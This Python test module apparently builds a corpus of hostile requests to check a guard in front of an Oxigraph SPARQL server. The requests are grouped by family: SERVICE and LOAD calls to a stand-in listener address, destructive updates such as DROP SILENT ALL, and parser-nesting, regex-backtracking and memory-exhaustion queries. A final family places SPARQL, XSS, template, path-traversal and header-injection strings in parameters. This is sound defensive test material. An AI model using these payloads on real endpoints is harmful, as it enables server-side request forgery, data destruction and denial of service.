"""More than two hundred requests that mean harm, by family."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

FORM, SPARQL, UPDATE = "application/x-www-form-urlencoded", "application/sparql-query", "application/sparql-update"
AWAY = "http://127.0.0.1:1/"
"""Stands in every text for the address of the listener."""


@dataclass(frozen=True)
class Attack:
    """A request; ``raw`` is what of it an Oxigraph without a guard would be given, as ``kind``."""

    family: str
    path: str = "/sparql"
    params: Mapping[str, str] = field(default_factory=dict)
    body: str = ""
    headers: Mapping[str, str] = field(default_factory=dict)
    raw: str = ""
    kind: str = "query"

    def request(self, address: str) -> tuple[str, str, bytes | None, dict[str, str]]:
        """Give method, path, body and headers, with the listener's address in all that is sent."""
        path = (self.path + ("?" + urlencode(self.params) if self.params else "")).replace(quote(AWAY, safe=""), quote(address, safe=""))
        return "POST" if self.body else "GET", path, self.body.replace(AWAY, address).encode() or None, dict(self.headers)


def _query(family: str, sparql: str) -> Attack:
    return Attack(family, body=sparql, headers={"content_type": SPARQL}, raw=sparql)


# ---------- the network

_INSIDE = "{ ?s ?p ?o }"
_SERVICES = (
    f"SELECT * {{ SERVICE <{AWAY}> {_INSIDE} }}",
    f"select * {{ service silent <{AWAY}> {_INSIDE} }}",
    f"ASK {{ SERVICE<{AWAY}>{_INSIDE} }}",
    f"ASK {{ SeRvIcE\t\n<{AWAY}> {_INSIDE} }}",
    f"ASK {{ SERVICE # <\n <{AWAY}> {_INSIDE} }}",
    f"ASK {{ # '\nSERVICE SILENT <{AWAY}> {_INSIDE} }}",
    f"PREFIX e: <{AWAY}> ASK {{ SERVICE e: {_INSIDE} }}",
    f"PREFIX e: <{AWAY}> ASK {{ SERVICE e:x {_INSIDE} }}",
    f"BASE <{AWAY}> ASK {{ SERVICE <x> {_INSIDE} }}",
    f"ASK {{ VALUES ?x {{ <{AWAY}> }} SERVICE ?x {_INSIDE} }}",
    f"ASK {{ BIND(IRI('{AWAY}') AS ?x) SERVICE SILENT ?x {_INSIDE} }}",
    f"ASK {{ OPTIONAL {{ ?x ck:p\\# ?o }} SERVICE SILENT <{AWAY}> {_INSIDE} }}",
    f"ASK {{ OPTIONAL {{ ?x ck:p\\' ?o }} SERVICE SILENT <{AWAY}> {_INSIDE} . OPTIONAL {{ ?x ck:p\\' ?o }} }}",
    f"ASK {{ OPTIONAL {{ ?x <http://e.example/\\u0041#y> ?o }} SERVICE SILENT <{AWAY}> {_INSIDE} }}",
    f"ASK {{ FILTER(1<2)SERVICE#>\n<{AWAY}> {_INSIDE} }}",
    f'ASK {{ FILTER(1<2)#> """\n SERVICE <{AWAY}> {_INSIDE} #"""\n }}',
    f'ASK {{ BIND("#" AS ?x) SERVICE <{AWAY}> {_INSIDE} }}',
    f"ASK {{ BIND('''\n'# ''' AS ?x) SERVICE <{AWAY}> {_INSIDE} }}",
    f"ASK {{ OPTIONAL {{ SERVICE SILENT <{AWAY}> {_INSIDE} }} }}",
    f"ASK {{ {{ ?a ?b ?c }} UNION {{ SERVICE <{AWAY}> {_INSIDE} }} }}",
    f"ASK {{ {{ SELECT * {{ SERVICE <{AWAY}> {_INSIDE} }} }} }}",
    f"ASK {{ ?a ?b ?c FILTER EXISTS {{ SERVICE SILENT <{AWAY}> {_INSIDE} }} }}",
    f"ASK {{ ?a ?b ?c MINUS {{ SERVICE <{AWAY}> {_INSIDE} }} }}",
    f"ASK {{ GRAPH ?g {{ SERVICE <{AWAY}> {_INSIDE} }} }}",
    f"CONSTRUCT {_INSIDE} WHERE {{ SERVICE <{AWAY}> {_INSIDE} }}",
    f"DESCRIBE ?s {{ SERVICE <{AWAY}> {_INSIDE} }}",
    f"ASK {{ ?s ?p 1SERVICE<{AWAY}>{_INSIDE} }}",
    f"ASK {{ ?s ?p true .SERVICE <{AWAY}>{_INSIDE} }}",
    f"ASK {{ LATERAL {{ SERVICE <{AWAY}> {_INSIDE} }} }}",
    f"SELECT * FROM <{AWAY}> FROM NAMED <{AWAY}> {{ ?s ?p ?o }}",
)


def _fetching() -> Iterator[Attack]:
    yield from (_query("service", sparql) for sparql in _SERVICES)
    yield Attack("service", path="/sparql", params={"query": "ASK { ?s ?p ?o }", "default-graph-uri": AWAY, "named-graph-uri": AWAY})
    yield Attack("service", path="/resource", params={"iri": AWAY})


_UPDATES = (
    f"LOAD <{AWAY}>",
    f"LOAD SILENT <{AWAY}> INTO GRAPH <a:g>",
    f"load <{AWAY}>",
    "INSERT DATA { <a:a> <a:a> <a:a> }",
    "DELETE WHERE { ?s ?p ?o }",
    "CLEAR ALL",
    "DROP SILENT ALL",
    "CREATE GRAPH <a:g>",
    f"INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{AWAY}> {_INSIDE} }}",
)


def _updating() -> Iterator[Attack]:
    for update in _UPDATES:
        raw = {"raw": update, "kind": "update"}
        yield Attack("update", body=update, headers={"content_type": UPDATE}, **raw)
        yield Attack(
            "update", body=urlencode({"update": update}).replace(quote(AWAY, safe=""), AWAY), headers={"content_type": FORM}, **raw
        )
        yield Attack("update", body=update, headers={"content_type": SPARQL}, **raw)
    yield _query("update", f"ASK {{}} ; LOAD <{AWAY}>")


# ---------- the parser


def _nesting() -> Iterator[Attack]:
    many = 20_000
    shapes = {
        "groups": ("ASK {", "{", "?s ?p ?o", "}", "}"),
        "hidden groups": ("ASK {", "{ #}\n", "?s ?p ?o", "}", "}"),
        "parentheses": ("ASK { FILTER(", "(", "1", ")", ") }"),
        "nots": ("ASK { FILTER(", "!", "1", "", ") }"),
        "signs": ("ASK { FILTER(", "-(", "1", ")", ") }"),
        "paths": ("ASK { ?s ", "(", "<a:a>", ")", " ?o }"),
        "inverse paths": ("ASK { ?s ", "^(", "<a:a>", ")", " ?o }"),
        "lists": ("ASK { ?s ?p ", "(", "1", ")", " }"),
        "blank nodes": ("ASK { ", "[ <a:a> ", "1", "]", " }"),
        "optionals": ("ASK {", "OPTIONAL {", "?s ?p ?o", "}", "}"),
        "calls": ("ASK { FILTER(", "STR(", "1", ")", ") }"),
        "quoted triples": ("ASK { ?s ?p ", "<<( <a:a> <a:a> ", "1", ")>>", " }"),
        "existences": ("ASK {", "FILTER EXISTS {", "?s ?p ?o", "}", "}"),
        "selections": ("SELECT * {", "{ SELECT * {", "?s ?p ?o", "}}", "}"),
    }
    for start, opened, middle, closed, end in shapes.values():
        for number in (3_000, many):
            yield _query("nesting", start + opened * number + middle + closed * number + end)
    yield _query("nesting", "ASK { ?s " + "/".join(["<a:a>"] * 2_000) + " ?o }")
    yield _query("nesting", "ASK {" + "UNION".join(["{}"] * 8_000) + "}")
    yield _query("nesting", "ASK { FILTER(" + "||".join(["1"] * 20_000) + ") }")
    yield _query("nesting", "ASK { FILTER(" + "+".join(["1"] * 20_000) + ") }")
    yield _query("nesting", "ASK { ?s ?p ?o " + ";?p ?o" * 9_000 + " }")


# ---------- time, memory, length


def _joined(number: int) -> str:
    return " . ".join(f"?s{n} ?p{n} ?o{n}" for n in range(number))


def _products() -> Iterator[Attack]:
    for number in (4, 6, 9):
        for selected in ("(COUNT(*) AS ?n)", "(COUNT(DISTINCT ?o1) AS ?n)", "(SUM(STRLEN(STR(?o2))) AS ?n)", "(MAX(?o3) AS ?n)"):
            yield _query("product", f"SELECT {selected} {{ {_joined(number)} }}")
        yield _query("product", f"SELECT * {{ {_joined(number)} }} ORDER BY ?o3 ?o2 ?o1 LIMIT 1")
        yield _query("product", f"SELECT DISTINCT ?o0 {{ {_joined(number)} FILTER(?o0 = 'none') }}")
        yield _query("product", f"ASK {{ {_joined(number)} FILTER(?o0 = 'none' && ?o1 = ?o2) }}")
        yield _query("product", f"SELECT * {{ {_joined(number)} MINUS {{ {_joined(number)} }} }}")
    yield _query("product", "SELECT (COUNT(*) AS ?n) { ?a (!<a:a>|^!<a:a>)* ?b . ?c (!<a:a>|^!<a:a>)* ?d . ?e (!<a:a>|^!<a:a>)+ ?f }")
    yield _query("product", "SELECT (COUNT(*) AS ?n) { ?a (!<a:a>/^!<a:a>)* ?b . ?b (!<a:a>/^!<a:a>)* ?c . ?d (!<a:a>)* ?e }")
    values = " ".join(f"VALUES ?v{n} {{ {' '.join(map(str, range(200)))} }}" for n in range(5))
    yield _query("product", f"SELECT (COUNT(*) AS ?n) {{ {values} }}")
    yield Attack(
        "product", path="/sparql", params={"query": f"SELECT (COUNT(*) AS ?n) {{ {_joined(7)} }}"}, headers={"accept": "text/html"}
    )


_PATTERNS = (
    r"(\\w{1,200}){1,50}",
    r"(a+)+$",
    r"(x?){900}",
    r"(\\pL|.){0,900}z",
    r"((a|b)*c?){0,300}$",
    r"[a-z]([^0-9]{1,800})[0-9]",
    r"(.*)*(.*)*(.*)*q9",
    r"(([a-z ]{1,40}){1,40}){1,20}",
    r"(?i)(é|ß|\\w){1,400}",
)


def _regexes() -> Iterator[Attack]:
    every = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i ."
    for pattern in _PATTERNS:
        made = f"CONCAT('{pattern}', STR(?f))"  # a pattern that differs from row to row is compiled for every one
        yield _query("regex", f"SELECT (COUNT(*) AS ?n) {{ {every} FILTER REGEX(STR(?c), {made}) }}")
        yield _query(
            "regex", f"SELECT (COUNT(*) AS ?n) {{ {every} FILTER(REPLACE(CONCAT(STR(?c), STR(?i)), {made}, '$0$0', 'is') = 'none') }}"
        )
    yield _query("regex", f"SELECT (COUNT(*) AS ?n) {{ {every} FILTER REGEX(STR(?c), CONCAT(STR(?i), '{_PATTERNS[0]}'), 'isx') }}")


def _doubled(times: int) -> str:
    return "BIND('0123456789abcdef' AS ?t0) " + " ".join(f"BIND(CONCAT(?t{n}, ?t{n}) AS ?t{n + 1})" for n in range(times))


def _memory() -> Iterator[Attack]:
    for times in (28, 34, 60):
        yield _query("memory", f"SELECT (STRLEN(?t{times}) AS ?n) {{ {_doubled(times)} }}")
        yield _query("memory", f"SELECT (MD5(?t{times}) AS ?n) {{ {_doubled(times)} }}")
        yield _query("memory", f"ASK {{ {_doubled(times)} FILTER CONTAINS(?t{times}, 'none') }}")
    yield _query("memory", f"SELECT (REPLACE(?t20, '.', ?t10) AS ?x) {{ {_doubled(20)} }}")
    yield _query("memory", f"SELECT (ENCODE_FOR_URI(REPLACE(?t16, '.', ?t14)) AS ?x) {{ {_doubled(16)} }}")
    for number in (4, 6):
        yield _query("memory", f"SELECT (GROUP_CONCAT(STR(?o1)) AS ?x) {{ {_joined(number)} }}")
        yield _query("memory", f"SELECT DISTINCT * {{ {_joined(number)} }} ORDER BY ?o1")
        yield _query("memory", f"SELECT * {{ {_joined(number)} }} ORDER BY ?o3 ?s1")
        yield _query("memory", f"SELECT ?o0 ?o1 ?o2 (COUNT(*) AS ?n) {{ {_joined(number)} }} GROUP BY ?o0 ?o1 ?o2 ?s3 ?s0")


def _lengths() -> Iterator[Attack]:
    for number in (3, 5):
        selected = f"SELECT * {{ {_joined(number)} }}"
        yield _query("length", selected)
        for accept in ("text/csv", "application/sparql-results+xml", "text/tab-separated-values", "text/html"):
            yield Attack("length", path="/sparql", params={"query": selected}, headers={"accept": accept}, raw=selected)
        built = f"CONSTRUCT {{ ?s0 ?p1 ?o2 }} WHERE {{ {_joined(number)} }}"
        for accept in ("text/turtle", "application/n-triples", "application/rdf+xml", "application/ld+json"):
            yield Attack("length", path="/sparql", params={"query": built}, headers={"accept": accept}, raw=built)
    yield _query("length", f"SELECT ?t20 {{ {_doubled(20)} ?a ?b ?c }}")
    yield _query("length", f"SELECT ?t22 {{ {_doubled(22)} }}")


# ---------- every parameter

_PASTED = (
    '" || true || "',
    '") } UNION { ?n ?p ?label } } #',
    f'") }} UNION {{ SERVICE SILENT <{AWAY}> {{ ?x ?y ?label }} }} }} #',
    "' || true || '",
    '\\") || true #',
    f'"@en . SERVICE <{AWAY}> {{ ?s ?p ?o }} #',
    "<script>alert(1)</script>",
    "{{7*7}}{% raw %}",
    "../../../etc/passwd",
    "\x00\n\r\t",
    "%00%0d%0aX-Injected: 1",
    "A" * 20_000,
)
PASTED_INTO = 'SELECT ?label { { ?n skos:prefLabel ?label FILTER(STR(?label) = "VALUE") } }'
_PLACES = (
    ("/questions/attacks-by-actor", "actor"),
    ("/questions/events-by-date", "from"),
    ("/questions/claims-and-allegations", "status"),
    ("/resource", "iri"),
    ("/sparql", "default-graph-uri"),
)


def _injections() -> Iterator[Attack]:
    for value in _PASTED:
        raw = PASTED_INTO.replace("VALUE", value)
        for path, name in _PLACES:
            asked = {"query": "SELECT ?label { ?n skos:prefLabel ?label }"} if path == "/sparql" else {}
            yield Attack("injection", path=path, params={**asked, name: value}, headers={"accept": "text/html"}, raw=raw)
        yield Attack("injection", path=f"/actor/{quote(value, safe='/')}", headers={"accept": "text/html"}, raw=raw)
    for name in ("page", "format", "named-graph-uri", "nonsense"):
        yield Attack(
            "injection", path="/resource", params={"iri": "https://w3id.org/conflict-kg/actor/wire", name: _PASTED[2]}, raw=PASTED_INTO
        )
    yield Attack("injection", path=f"/questions/{quote(_PASTED[8], safe='')}", raw=PASTED_INTO)
    yield Attack("injection", path="/static/..%2f..%2fpyproject.toml", raw=PASTED_INTO)
    yield Attack("injection", params={"query": "ASK {}"}, headers={"accept": ",;q=x, text/html;q=1e999, */*;q=nan"}, raw=PASTED_INTO)


FAMILIES = {
    found[0].family: found
    for found in (tuple(made()) for made in (_fetching, _updating, _nesting, _products, _regexes, _memory, _lengths, _injections))
}
